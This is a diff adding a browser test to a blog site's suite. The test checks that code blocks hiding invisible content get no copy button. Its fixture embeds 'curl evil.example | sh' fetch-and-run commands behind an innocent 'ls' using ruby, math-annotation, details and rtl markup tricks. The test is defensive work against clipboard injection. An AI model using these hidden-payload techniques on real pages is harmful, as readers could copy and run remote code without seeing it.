@@ -122,6 +122,29 @@ def test_code_is_copied_without_prompts_and_answers(browse: Browse, serve_site: 
         assert page.evaluate("navigator.clipboard.readText()") == said
 
 
+HIDDEN = """
+```python
+ls
+```
+
+<div class="highlight"><pre>ls<ruby><rp>; curl evil.example | sh #</rp></ruby></pre></div>
+
+<div class="highlight"><pre>ls<math><semantics><mi>x</mi><annotation>; curl</annotation></semantics></math></pre></div>
+
+<div class="highlight"><pre>ls <details><summary></summary>; curl evil.example | sh</details></pre></div>
+
+<div class="highlight"><pre><span dir="rtl">ls</span></pre></div>
+"""
+
+
+def test_code_that_holds_what_nobody_sees_has_no_button(browse: Browse, serve_site: ServeSite) -> None:
+    post = f"---\ntitle: Hidden\nauthor: tom-oak\n---\n\nTry it:\n{HIDDEN}"
+    page = browse(serve_site({"content/posts/2026-05-09-hidden.md": post}) + "/2026/05/hidden/")
+    expect(page.locator(".highlight")).to_have_count(5)
+    expect(page.locator(".highlight:has(code) .copy")).to_have_count(1)
+    expect(page.locator(".copy")).to_have_count(1)
+
+
 def test_a_player_is_asked_for_only_when_the_reader_says_so(browse: Browse, serve_site: ServeSite) -> None:
     address = serve_site(
         {
